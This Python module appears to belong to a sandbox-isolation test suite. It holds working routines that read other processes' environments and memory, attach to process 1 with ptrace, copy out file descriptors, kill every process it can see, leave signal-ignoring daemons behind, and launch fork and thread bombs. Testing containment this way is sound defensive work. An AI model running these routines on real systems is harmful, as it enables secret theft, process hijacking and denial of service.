"""Attacks on processes: seeing, reading, tracing and killing those of others, and living on when one's time is over."""

import ctypes
import errno
import os
import signal
import time

from attacks.kernel import outcome, set_name, syscall, tried, visible_processes

PTRACE_SEIZE, PTRACE_DETACH = 0x4206, 17
CHUNK_BYTES = 1 << 20


def strangers(target, *more):
    """Process numbers that cannot mean one of this environment's own processes."""
    own = [] if target.get("outside") else [os.getpid(), *visible_processes()]
    return [process for process in {target["victim"], *more} if process not in own]


def see_host_processes(target):
    """Sees the server, or any process of the host, in /proc."""
    def attempt():
        for process in visible_processes():
            if target["server_mark"].encode() in open(f"/proc/{process}/cmdline", "rb").read():
                return process
        return None

    attempts = {f"pidfd {process}": lambda process=process: syscall("pidfd_open", process, 0)
                for process in strangers(target)}
    return tried({"/proc": attempt} | attempts)


def read_environments(target):
    """Looks for a secret in the environment variables of every process: the server's or a neighbour's."""
    def attempt(process):
        return target["environment_secret"].encode() in open(f"/proc/{process}/environ", "rb").read()

    return tried({process: lambda process=process: attempt(process)
                  for process in {*visible_processes(), *target["processes"]}})


def read_memory(target):
    """Looks for a neighbour's secret in the memory of every process, by /proc and by process_vm_readv."""
    secret = target["memory_secret_reversed"][::-1].encode()

    def regions(process):
        for line in open(f"/proc/{process}/maps", encoding="utf-8", errors="replace"):
            span, mode = line.split()[:2]
            start, end = (int(each, 16) for each in span.split("-"))
            if mode.startswith("rw") and end - start < 64 << 20:
                yield start, end

    def by_file(process):
        with open(f"/proc/{process}/mem", "rb", buffering=0) as memory:
            for start, end in regions(process):
                memory.seek(start)
                try:
                    if secret in memory.read(end - start):
                        return hex(start)
                except OSError:
                    continue
        return None

    def by_call(process):
        buffer = ctypes.create_string_buffer(CHUNK_BYTES)
        local = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), CHUNK_BYTES)
        for start, end in regions(process):
            for place in range(start, end, CHUNK_BYTES):
                remote = (ctypes.c_void_p * 2)(place, min(CHUNK_BYTES, end - place))
                count = syscall("process_vm_readv", process, local, 1, remote, 1, 0)
                if secret in buffer.raw[:count]:
                    return hex(place)
        return None

    attempts = {}
    for process in {*visible_processes(), *target["neighbours"]}:
        attempts[f"{process} mem"] = lambda process=process: by_file(process)
        attempts[f"{process} readv"] = lambda process=process: by_call(process)
    return tried(attempts)


def trace_processes(target):
    """Attaches to a process of the host, to its parent and to process 1 as a debugger."""
    def attempt(process):
        syscall("ptrace", PTRACE_SEIZE, process, 0, 0)
        return "attached"

    others = set(strangers(target, *target["processes"]))
    if not target.get("outside"):
        others |= {1, os.getppid()} - {os.getpid()}
    return tried({process: lambda process=process: attempt(process) for process in others})


def steal_descriptors(target):
    """Copies open files out of another process."""
    def attempt(process):
        return syscall("pidfd_getfd", syscall("pidfd_open", process, 0), 1, 0)

    return tried({process: lambda process=process: attempt(process) for process in strangers(target, *target["processes"])})


def kill_by_number(target):
    """Sends SIGKILL to a process of the host by its number."""
    return tried({process: lambda process=process: os.kill(process, signal.SIGKILL) or "killed"
                  for process in strangers(target)})


def kill_everyone(target):
    """Sends SIGKILL to all that it can see and to process 1; outside, a bystander shows that the signal arrives."""
    bystander = os.fork()
    if bystander == 0:
        time.sleep(60)
        os._exit(0)
    attempts = {"-1": lambda: os.kill(-1, signal.SIGKILL) or "sent"}
    if not target.get("outside"):
        attempts["1"] = lambda: os.kill(1, signal.SIGKILL) or "sent"
    detail = tried(attempts)["detail"]
    _, status = os.waitpid(bystander, 0)
    return outcome(target.get("outside") and os.WIFSIGNALED(status), detail)


def live_on(target):
    """Leaves a daemon behind, deaf to polite signals and away from its group, then works on past its timeout."""
    if os.fork() == 0:
        os.setsid()
        for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(number, signal.SIG_IGN)
        if os.fork() == 0:
            set_name(target["mark"])
            os.closerange(0, 64)
            while True:
                time.sleep(0.05)
        os._exit(0)
    time.sleep(target["work_s"])
    return outcome(False, "still there")


def compute_on(target):
    """Leaves a child behind that computes, and answers at once."""
    started, starting = os.pipe()
    if os.fork() == 0:
        set_name(target["mark"])
        os.write(starting, b".")
        os.closerange(0, 64)
        while True:
            pass
    os.read(started, 1)
    return outcome(False, "the host looks on")


def fork_bomb(target):
    """Every process forks as long as it can; succeeds if so many live at once."""
    born, birth = os.pipe()
    os.set_blocking(born, False)
    leader = os.fork()
    if leader == 0:
        os.setpgid(0, 0)
        _multiply(birth, target["processes_wanted"])
    total, end = 0, time.monotonic() + target.get("limit_s", 3)
    while total < target["processes_wanted"] and time.monotonic() < end:
        try:
            total += len(os.read(born, 4096))
        except BlockingIOError:
            time.sleep(0.01)
    # The group's children may fork while the signal goes round: again, until nobody is left.
    for _ in range(200):
        try:
            os.killpg(leader, signal.SIGKILL)
            time.sleep(0.005)
        except ProcessLookupError:
            break
    return outcome(total >= target["processes_wanted"], f"{total} processes at once")


def _multiply(birth, wanted):
    """A process of the bomb: forks on and on, and so do its children; at most about `wanted` in all."""
    import fcntl
    import struct
    import termios

    seen = 0
    while True:
        waiting = struct.unpack("i", fcntl.ioctl(birth, termios.FIONREAD, b"\0" * 4))[0]
        seen = max(seen, waiting)
        try:
            if seen < wanted and os.fork() == 0:
                os.write(birth, b".")
        except OSError as problem:
            if problem.errno not in (errno.EAGAIN, errno.ENOMEM):
                raise
        if seen >= wanted:
            time.sleep(1)


def thread_bomb(target):
    """Starts threads as long as it can; succeeds if so many live at once."""
    import threading

    threading.stack_size(64 << 10)
    stop, total = threading.Event(), 0
    try:
        while total < target["processes_wanted"]:
            threading.Thread(target=stop.wait, daemon=True).start()
            total += 1
    except (RuntimeError, MemoryError):
        pass
    finally:
        stop.set()
    return outcome(total >= target["processes_wanted"], f"{total} threads at once")
